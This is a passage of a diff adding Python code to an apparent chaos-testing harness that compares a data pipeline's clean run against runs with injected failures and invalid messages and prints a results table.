+                "state_equal": all(c.state_equal for c in cs),
+                "kills": sum(r.kills for r in self.runs),
+                "unexpected_restarts": sum(r.unexpected_restarts for r in self.runs),
+                "dlq_without_reason": sum(r.dlq_without_reason for r in self.runs)}
+
+
+async def run_all(docs: int, seed: int, root: Path, *, invalid: int = 1000,
+                  plan: ChaosPlan | None = None, scenarios: tuple[str, ...] = ("chaos", "hostile"),
+                  timeout_s: float = 3600, log=print) -> Report:
+    """The clean run, then each scenario on the same history; compare store by store."""
+    h = history(docs, seed)
+    plan = plan or ChaosPlan()
+    runs, comparisons = [], {}
+    clean_run = Run("clean", root, seed, log=log)
+    clean_msgs = clean_messages(h)
+    clean_run.result.events = len(clean_msgs)
+    clean = await clean_run.execute(clean_msgs, None, timeout_s)
+    runs.append(clean)
+    log(f"[clean] {len(clean.state['index']['chunks'])} chunks, "
+        f"{len(clean.state['graph']['entities'])} entities in {clean.seconds:.0f}s")
+    for name in scenarios:
+        run = Run(name, root, seed, log=log)
+        if name == "chaos":
+            msgs = clean_msgs
+            result = await run.execute(msgs, plan, timeout_s)
+        elif name == "hostile":
+            msgs = hostile_messages(h, invalid, seed, run.result)
+            result = await run.execute(msgs, None, timeout_s)
+        else:
+            raise ValueError(f"unknown scenario {name!r}")
+        result.events = len(msgs)
+        runs.append(result)
+        comparisons[name] = compare(clean, result, h.final)
+        log(f"[{name}] equal={comparisons[name].equal} {comparisons[name].details}")
+    return Report(docs, seed, runs, comparisons)
+
+
+def format_table(report: Report) -> str:
+    cols = ["run", "events", "kills", "outages", "invalid", "dlq", "dlq_expected", "lost",
+            "duplicated", "state_equal", "restarts_by_input", "seconds"]
+    rows = report.rows()
+    widths = {c: max(len(c), *(len(_cell(r[c])) for r in rows)) for c in cols}
+    lines = ["  ".join(c.ljust(widths[c]) for c in cols)]
+    lines += ["  ".join(_cell(r[c]).ljust(widths[c]) for c in cols) for r in rows]
+    return "\n".join(lines)
+
+
+def _cell(v: Any) -> str:
+    return ("yes" if v else "no") if isinstance(v, bool) else str(v)
+
